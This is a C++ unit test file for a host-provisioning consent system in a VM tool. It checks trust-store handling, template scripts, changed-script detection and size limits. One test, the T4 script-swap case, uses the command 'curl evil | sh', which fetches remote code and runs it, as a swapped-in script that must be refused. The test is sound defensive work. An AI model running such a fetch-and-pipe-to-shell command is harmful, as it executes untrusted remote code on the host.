#include "hostprovision/consent.h"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>

#include "base/error.h"
#include "config/load.h"
#include "hostprovision/script_digest.h"
#include "tests/unit/hostprovision/consent_support.h"

namespace limequat::hostprovision {
namespace {

using config::HostScript;
using testing::HasSubstr;
using testing::IsEmpty;

TEST(Consent, S1_default_yaml_runs) {
  const ConsentTrial trial;
  EXPECT_EQ(trial.judge(default_script("true")).state, ConsentState::on);
}

TEST(Consent, S2_a_template_is_off_with_the_command_that_turns_it_on) {
  const ConsentTrial trial;
  const ScriptConsent judged = trial.judge(template_script("true"));
  EXPECT_EQ(judged.state, ConsentState::off);
  EXPECT_EQ(
      judged.reason,
      "not allowed yet: it stands in the machine's own lima.yaml (hint: limactl host-provision "
      "allow dev)");
}

TEST(Consent, AllowedRunsDeniedDoesNot) {
  const ConsentTrial trial;
  const std::vector<HostScript> scripts{template_script("a", 0), template_script("b", 1)};
  trial.decide(scripts, 0);
  trial.decide(scripts, 1, Verdict::denied);
  const auto judged = trial.consent(scripts).judge(scripts);
  EXPECT_EQ(judged[0].state, ConsentState::on);
  EXPECT_THAT(judged[0].reason, IsEmpty());
  EXPECT_EQ(judged[1].state, ConsentState::denied);
  EXPECT_THAT(judged[1].reason,
              HasSubstr("you denied it (hint: limactl host-provision allow dev)"));
}

TEST(Consent, TheUserMayDenyTheirOwnScript) {
  const ConsentTrial trial;
  const std::vector<HostScript> scripts{default_script("true")};
  trial.decide(scripts, 0, Verdict::denied);
  EXPECT_EQ(trial.judge(scripts[0]).state, ConsentState::denied);
}

TEST(Consent, SandboxAnswerReachesThePlan) {
  const ConsentTrial trial;
  const std::vector<HostScript> scripts{template_script("true")};
  trial.decide(scripts, 0, Verdict::allowed, true);
  const Decision decision = trial.consent(scripts).permission()(scripts[0]);
  EXPECT_TRUE(decision.allowed);
  EXPECT_EQ(decision.sandbox, config::Sandbox::restricted);
}

TEST(Consent, T3_one_byte_makes_it_changed) {
  const ConsentTrial trial;
  const HostScript before = template_script("echo 1\n", 0, "setup");
  trial.decide({before}, 0);
  HostScript after = before;
  after.script = "echo 2\n";
  const ScriptConsent judged = trial.judge(after);
  EXPECT_EQ(judged.state, ConsentState::changed);
  ASSERT_TRUE(judged.record);
  EXPECT_THAT(judged.record->text, HasSubstr("echo 1\n"));
  EXPECT_FALSE(trial.consent({after}).permission()(after).allowed);
}

TEST(Consent, T4_permission_looks_at_the_script_it_is_asked_about) {
  const ConsentTrial trial;
  const HostScript agreed = template_script("true");
  trial.decide({agreed}, 0);
  const Permission permission = trial.consent({agreed}).permission();
  EXPECT_TRUE(permission(agreed).allowed);
  HostScript swapped = agreed;
  swapped.script = "curl evil | sh";
  EXPECT_FALSE(permission(swapped).allowed) << "in the place of the script that was judged";
}

TEST(Consent, T5_same_text_other_shell_is_asked_again) {
  const ConsentTrial trial;
  HostScript script = template_script("true");
  trial.decide({script}, 0);
  script.shell = "sh";
  EXPECT_EQ(trial.judge(script).state, ConsentState::changed);
}

TEST(Consent, T13_a_broken_store_denies_everything) {
  const ConsentTrial trial;
  const std::vector<HostScript> scripts{template_script("true"), default_script("true", 1)};
  trial.decide(scripts, 0);
  std::filesystem::resize_file(trial.folder().trust_store(), 10);
  const Consent consent = trial.consent(scripts);
  EXPECT_THAT(consent.trouble(), HasSubstr("host-scripts.json:"));
  EXPECT_EQ(consent.judge(scripts[0]).state, ConsentState::denied);
  EXPECT_EQ(consent.judge(scripts[0]).reason, consent.trouble());
  EXPECT_EQ(consent.judge(scripts[1]).state, ConsentState::denied);
  EXPECT_EQ(consent.judge(scripts[1]).reason,
            consent.trouble() + "; --skip-host-scripts goes on without host scripts");
  EXPECT_FALSE(consent.permission()(scripts[0]).unknown);
  EXPECT_FALSE(consent.permission()(scripts[1]).allowed);
  EXPECT_TRUE(consent.permission()(scripts[1]).unknown);
}

TEST(Consent, T13_ones_own_denial_is_not_lost_with_the_store) {
  const ConsentTrial trial;
  const std::vector<HostScript> scripts{default_script("true")};
  EXPECT_EQ(trial.judge(scripts[0]).state, ConsentState::on);  // no store
  trial.decide(scripts, 0, Verdict::allowed, true);
  EXPECT_TRUE(trial.judge(scripts[0]).restricted);
  const Path store = trial.folder().trust_store();
  ASSERT_EQ(::chmod(store.c_str(), 0644), 0);
  EXPECT_EQ(trial.judge(scripts[0]).state, ConsentState::denied);
  ASSERT_EQ(::chmod(store.c_str(), 0600), 0);
  write_file_atomic(store, R"({"version":9})", 0600);
  EXPECT_EQ(trial.judge(scripts[0]).state, ConsentState::denied);
  std::filesystem::remove(store);
  EXPECT_EQ(trial.judge(scripts[0]).state, ConsentState::on);
  ASSERT_EQ(::chmod(store.parent_path().c_str(), 0755), 0);
  EXPECT_EQ(trial.judge(scripts[0]).state, ConsentState::denied);
}

TEST(Consent, T13_T21_a_copy_of_the_folder_has_no_consent) {
  const ConsentTrial trial;
  const HostScript script = template_script("true");
  trial.decide({script}, 0);
  const Path aside = trial.root() / "lima" / "aside";
  std::filesystem::copy(trial.instance(), aside);
  EXPECT_EQ(load_consent(trial.folder(), aside, "aside", {script}).judge(script).state,
            ConsentState::off);
  // Even in the place of the first.
  std::filesystem::rename(trial.instance(), trial.root() / "old");
  std::filesystem::rename(aside, trial.instance());
  EXPECT_EQ(trial.judge(script).state, ConsentState::off);
}

TEST(Consent, T21_a_clone_carries_matching_digests) {
  const ConsentTrial trial;
  const HostScript script = template_script("true");
  trial.decide({script}, 0);
  const Path clone = trial.root() / "lima" / "clone";
  make_directories(clone);
  trial.file().update([&](TrustStore& store) {
    store.carry(trial.binding(), bind_instance(clone), digests_of({script}));
  });
  EXPECT_EQ(load_consent(trial.folder(), clone, "clone", {script}).judge(script).state,
            ConsentState::on);
}

TEST(Consent, T17_only_the_new_one_is_asked_about) {
  const ConsentTrial trial;
  const std::vector<HostScript> before{template_script("a", 0), template_script("b", 1)};
  trial.decide(before, 0);
  trial.decide(before, 1);
  // In front of the others: they move, and stay allowed.
  const std::vector<HostScript> after{template_script("new", 0), template_script("a", 1),
                                      template_script("b", 2)};
  const auto judged = trial.consent(after).judge(after);
  EXPECT_EQ(judged[0].state, ConsentState::off) << "nothing is gone that it could stand for";
  EXPECT_EQ(judged[1].state, ConsentState::on);
  EXPECT_EQ(judged[2].state, ConsentState::on);
}

TEST(Consent, ChangedIsFoundByNameThenByPlace) {
  const ConsentTrial trial;
  const std::vector<HostScript> before{template_script("a", 0, "first"),
                                       template_script("b", 1, "second")};
  trial.decide(before, 0);
  trial.decide(before, 1);
  const std::vector<HostScript> after{template_script("B", 0, "second"),
                                      template_script("A", 1, "first")};
  const auto judged = trial.consent(after).judge(after);
  EXPECT_THAT(judged[0].record->text, testing::EndsWith("script:\nb"));
  EXPECT_THAT(judged[1].record->text, testing::EndsWith("script:\na"));
}

TEST(Consent, T16_huge_scripts_are_refused) {
  const ConsentTrial trial;
  HostScript script = template_script(std::string(kMaxConsentScriptBytes, 'x'));
  EXPECT_EQ(trial.judge(script).state, ConsentState::off);
  script.script->push_back('x');
  trial.decide({script}, 0);
  EXPECT_EQ(trial.judge(script).state, ConsentState::denied) << "even if it was allowed";
  EXPECT_THROW(require_consentable({script}), Error);
  script.origin = config::ScriptOrigin::default_yaml;
  EXPECT_EQ(trial.judge(script).state, ConsentState::on);
  EXPECT_NO_THROW(require_consentable({script}));
}

TEST(Consent, T16_nor_may_the_payload_hide_elsewhere) {
  HostScript script = template_script("true");
  script.env["X"].value.assign(kMaxConsentOtherBytes, 'x');
  EXPECT_THAT(consent_refusal(script), HasSubstr("may have 64 KiB together"));
  script = template_script("eval {{shq .Param.A}}");
  script.params["A"].assign(kMaxConsentOtherBytes - 1, 'x');
  EXPECT_EQ(consent_refusal(script), "");
  script.params["A"] += 'x';
  EXPECT_THAT(consent_refusal(script), HasSubstr("the params that it takes in have 65537 bytes"));
  EXPECT_THROW(require_consentable({script}), Error);
  EXPECT_EQ(ConsentTrial().judge(script).state, ConsentState::denied);
  std::vector<HostScript> crowd;
  for (int i = 0; i <= static_cast<int>(kMaxConsentScripts); ++i) {
    crowd.push_back(template_script(std::to_string(i), i));
  }
  const ConsentTrial trial;
  EXPECT_EQ(trial.consent(crowd).judge(crowd[0]).state, ConsentState::denied);
  try {
    require_consentable(crowd);
    ADD_FAILURE() << "not refused";
  } catch (const Error& error) {
    EXPECT_EQ(error.message(), fmt::format("/home/user/.lima/dev/lima.yaml:{}: more than 200 host "
                                           "scripts that need consent",
                                           crowd.back().line));
  }
}

TEST(Consent, T12_a_template_cannot_grant_itself_trust) {
  const ConsentTrial trial;
  const config::Loader loader(config::HostFacts{.goos = "linux", .goarch = "amd64"});
  const auto loaded = loader.load(
      {.path = "/h/dev/lima.yaml",
       .text = "trusted: true\nhostProvision:\n- bash: 'true'\n  trusted: true\n  allowed: yes\n"
               "  consent: sha256:00\n  consentReason: ''\n  origin: default.yaml\n"},
      {.name = "dev", .dir = "/h/dev", .lima_home = "/h"});
  ASSERT_EQ(loaded.machine.host_provision.size(), 1u);
  EXPECT_TRUE(loaded.machine.host_provision[0].needs_consent());
  EXPECT_EQ(trial.judge(loaded.machine.host_provision[0]).state, ConsentState::off);
}

TEST(Consent, T11_T29_default_yaml_that_needs_consent_is_treated_like_a_template) {
  const ConsentTrial trial;
  HostScript script = default_script("true");
  script.consent_reason = "LIMA_HOME lies in the work tree of a repository, `/repo`";
  EXPECT_EQ(trial.judge(script).state, ConsentState::off);
  EXPECT_THAT(trial.judge(script).reason, HasSubstr("work tree of a repository, `/repo`"));
  trial.decide({script}, 0);
  EXPECT_EQ(trial.judge(script).state, ConsentState::on);
}

TEST(Consent, AMachineThatIsGoneDeniesWithoutThrowing) {
  const ConsentTrial trial;
  const HostScript script = template_script("true");
  const Consent consent = load_consent(trial.folder(), trial.root() / "gone", "gone", {script});
  EXPECT_EQ(consent.judge(script).state, ConsentState::denied);
}

TEST(Consent, AHandMadeScriptNeedsConsent) {
  EXPECT_TRUE(HostScript().needs_consent()) << "what nobody set must not mean trust";
}

}  // namespace
}  // namespace limequat::hostprovision
